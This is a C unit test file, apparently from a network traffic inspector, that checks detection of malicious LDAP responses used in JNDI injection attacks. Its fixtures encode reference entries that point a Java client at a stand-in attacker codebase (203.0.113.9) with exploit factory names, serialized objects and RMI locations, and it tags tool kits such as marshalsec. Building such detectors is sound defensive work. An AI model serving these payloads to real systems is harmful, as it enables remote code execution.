/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The answer that a lookup gets, however a server writes it: attributes in any order and letter case, lengths
 * in any form. A JDK reads them all alike. */
#include "inspect/inspector.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "support/conversation.h"

/* How many bytes a length takes: 1 (the short form, when it fits), or so many behind 0x8n. */
enum form { FORM_SHORT, FORM_1, FORM_2, FORM_4, FORM_N };

static void add_element(struct buf *to, uint8_t tag, struct bytes value, enum form form)
{
    static const unsigned widths[] = {0, 1, 2, 4};
    unsigned width = widths[form];
    uint8_t head[6] = {tag};
    size_t rest = value.len;

    if (width == 0 && value.len > 127)
        width = 2;
    head[1] = (uint8_t)(width ? 0x80 | width : value.len);
    for (unsigned i = width; i-- > 0; rest >>= 8)
        head[2 + i] = rest & 0xff;
    assert_true(buf_add(to, bytes_of(head, 2 + width)) && buf_add(to, value));
}

enum letters { LETTERS_AS_THEY_ARE, LETTERS_SMALL, LETTERS_LARGE, LETTERS_N };

static void add_attribute(struct buf *to, const char *type, const char *value, enum form form,
                          enum letters letters)
{
    struct buf name = buf_within(64), set = buf_within(256), pair = buf_within(512);

    for (const char *p = type; *p; p++) {
        bool letter = (*p | 0x20) >= 'a' && (*p | 0x20) <= 'z';
        char c = letters == LETTERS_AS_THEY_ARE || !letter ? *p
                 : letters == LETTERS_SMALL                ? (char)(*p | 0x20)
                                                           : (char)(*p & ~0x20);

        assert_true(buf_add_byte(&name, (uint8_t)c));
    }
    add_element(&set, 0x04, bytes_str(value), form);
    add_element(&pair, 0x04, buf_bytes(&name), form);
    add_element(&pair, 0x31, buf_bytes(&set), form);
    add_element(to, 0x30, buf_bytes(&pair), form);
    buf_drop(&name);
    buf_drop(&set);
    buf_drop(&pair);
}

struct attribute {
    const char *type, *value;
};

/* SearchResultEntry (RFC 4511 section 4.5.2) of these attributes, in this order. */
static struct buf entry(const struct attribute *const *a, unsigned n, enum form form, enum letters letters)
{
    struct buf list = buf_within(2048), body = buf_within(2048), message = buf_within(2048),
               out = buf_within(2048);

    for (unsigned i = 0; i < n; i++)
        add_attribute(&list, a[i]->type, a[i]->value, form, letters);
    add_element(&body, 0x04, BYTES_LIT("a"), form);
    add_element(&body, 0x30, buf_bytes(&list), form);
    add_element(&message, 0x02, BYTES_LIT("\x02"), form);
    add_element(&message, 0x64, buf_bytes(&body), form);
    add_element(&out, 0x30, buf_bytes(&message), form);
    buf_drop(&list);
    buf_drop(&body);
    buf_drop(&message);
    return out;
}

/* The k-th order of n things. */
static void permute(const struct attribute *all, unsigned n, unsigned k, const struct attribute **out)
{
    const struct attribute *left[8];

    for (unsigned i = 0; i < n; i++)
        left[i] = &all[i];
    for (unsigned i = 0, m = n; i < n; i++, m--) {
        unsigned at = k % m;

        k /= m;
        out[i] = left[at];
        left[at] = left[m - 1];
    }
}

static void assert_all(const struct attribute *all, unsigned n, unsigned orders, const char *const *wanted)
{
    for (unsigned k = 0; k < orders; k++)
        for (enum form form = 0; form < FORM_N; form++)
            for (enum letters letters = 0; letters < LETTERS_N; letters++) {
                const struct attribute *order[8];
                struct buf wire;
                struct said said = {.side = 1};
                struct transcript t;

                permute(all, n, k, order);
                wire = entry(order, n, form, letters);
                said.data = buf_bytes(&wire);
                t = conversation_of(PROTO_TCP, &said, 1);
                for (unsigned i = 0; wanted[i]; i++)
                    if (!transcript_has(&t, wanted[i]))
                        fail_msg("order %u, form %u, letters %u: no %s in\n%.*s", k, form, letters, wanted[i],
                                 (int)t.text.len, (const char *)t.text.p);
                transcript_drop(&t);
                buf_drop(&wire);
            }
}

static void references(void **state)
{
    static const struct attribute all[] = {{"javaClassName", "foo"},
                                           {"javaCodeBase", "http://203.0.113.9:8888/"},
                                           {"objectClass", "javaNamingReference"},
                                           {"javaFactory", "ExecTemplateJDK8"}};
    static const char *const wanted[] = {"jndi.stage=reference;",
                                         "java.content=reference;",
                                         "java.codebase=http://203.0.113.9:8888/;",
                                         "java.factory=ExecTemplateJDK8;",
                                         "java.class=foo;",
                                         "jndi.kit=JNDI-Injection-Exploit;",
                                         NULL};

    (void)state;
    assert_all(all, 4, 24, wanted);
}

/* What marshalsec answers to every name, in any order and form. */
static void made_by_marshalsec(void **state)
{
    static const struct attribute all[] = {{"javaClassName", "foo"},
                                           {"javaCodeBase", "http://203.0.113.9:8000/"},
                                           {"objectClass", "javaNamingReference"},
                                           {"javaFactory", "Exploit"}};
    static const char *const wanted[] = {"jndi.stage=reference;", "java.factory=Exploit;",
                                         "jndi.kit=marshalsec;", NULL};

    (void)state;
    assert_all(all, 4, 24, wanted);
}

static void objects(void **state)
{
    static const struct attribute all[] = {
        {"javaClassName", "foo"}, {"javaSerializedData", "\xac\xed\x05t"}, {"cn", "a"}};
    static const char *const wanted[] = {"jndi.stage=deserialization;", "java.class=foo;", NULL};

    (void)state;
    assert_all(all, 3, 6, wanted);
}

static void remote_locations(void **state)
{
    static const struct attribute all[] = {{"javaClassName", "foo"},
                                           {"javaRemoteLocation", "rmi://203.0.113.9/b"},
                                           {"objectClass", "javaRemoteObject"}};
    static const char *const wanted[] = {"jndi.stage=reference;", "java.address=rmi://203.0.113.9/b;", NULL};

    (void)state;
    assert_all(all, 3, 6, wanted);
}

/* The twin: an entry of a directory, in all the same ways. */
static void ordinary_entries(void **state)
{
    static const struct attribute all[] = {
        {"cn", "alice"}, {"mail", "alice@shop.example"}, {"description", "writes javaCodeBase on the board"}};

    (void)state;
    for (unsigned k = 0; k < 6; k++)
        for (enum form form = 0; form < FORM_N; form++) {
            const struct attribute *order[8];
            struct buf wire;
            struct said said = {.side = 1};
            struct transcript t;

            permute(all, 3, k, order);
            wire = entry(order, 3, form, LETTERS_AS_THEY_ARE);
            said.data = buf_bytes(&wire);
            t = conversation_of(PROTO_TCP, &said, 1);
            assert_false(transcript_has(&t, "jndi.stage="));
            assert_false(transcript_has(&t, "java."));
            transcript_drop(&t);
            buf_drop(&wire);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(references),       cmocka_unit_test(made_by_marshalsec), cmocka_unit_test(objects),
        cmocka_unit_test(remote_locations), cmocka_unit_test(ordinary_entries),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
